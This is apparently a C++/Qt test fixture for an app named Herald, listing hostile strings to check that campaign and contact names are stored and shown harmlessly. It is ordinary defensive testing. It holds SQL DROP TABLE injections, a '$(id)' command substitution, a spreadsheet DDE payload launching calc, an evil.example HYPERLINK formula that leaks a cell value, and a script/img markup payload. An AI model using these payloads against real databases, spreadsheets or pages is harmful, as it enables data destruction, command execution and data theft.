#pragma once

#include <QList>
#include <QString>

namespace herald::test {

// Text an attacker, a careless export or a curious user puts where Herald expects a name: SQL
// that would break out of a quoted literal, format directives, backslashes, bidirectional
// controls that reorder what is shown, emoji and combining marks that break naive length and
// cutting, formulas for spreadsheets and markup for rich-text labels. Every one is a valid
// campaign and contact name: it must be stored and shown exactly as given, and do nothing.
struct HostileString
{
    const char *label;
    QString text;
};

inline QList<HostileString> hostileStrings()
{
    return {
        {"quotes", QStringLiteral("O'Brien \"the quote\" `back` ‘curly’ «angle»")},
        {"sql drop", QStringLiteral("'; DROP TABLE campaigns; --")},
        {"sql drop queue", QStringLiteral("Robert'); DROP TABLE send_queue;--")},
        {"sql or", QStringLiteral("x' OR '1'='1")},
        {"backslashes", QStringLiteral("C:\\new\\table \\' \\\\ \\0 \\n")},
        {"format directives", QStringLiteral("%s %d %n %x %1 %2 %L1 {{1}} {0} ${HOME} $(id)")},
        {"rtl override", QStringLiteral("invoice\u202Egnp.exe")},
        {"bidi controls",
         QStringLiteral("\u202Aa\u202Bb\u202Cc\u202Dd\u2066e\u2067f\u2068g\u2069h\u200Ei\u200Fj\u061Ck")},
        {"emoji", QStringLiteral("Family 👨‍👩‍👧‍👦 flag 🇩🇪 party 🎉 skin 👍🏽")},
        {"combining marks",
         QStringLiteral("Z\u0351\u0362\u0334a\u0300\u0301\u0302\u0303lgo e\u0301 n\u0303")},
        {"scripts", QStringLiteral("שלום مرحبا 你好 Привет ☃ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢")},
        {"formula", QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")},
        {"formula plus", QStringLiteral("+1+cmd|' /C calc'!A0")},
        {"formula minus", QStringLiteral("-2+3")},
        {"formula at", QStringLiteral("@SUM(1,2)")},
        {"markup",
         QStringLiteral("<b>bold</b><img src=\"http://evil.example/x.png\"><script>alert(1)</script>")},
        {"csv breakers", QStringLiteral("a,b;c|d \"e\"\"f\"")},
        {"lookalike space", QStringLiteral("no\u00A0break\u2003em\u200Bzero\uFEFFbom")},
    };
}

} // namespace herald::test
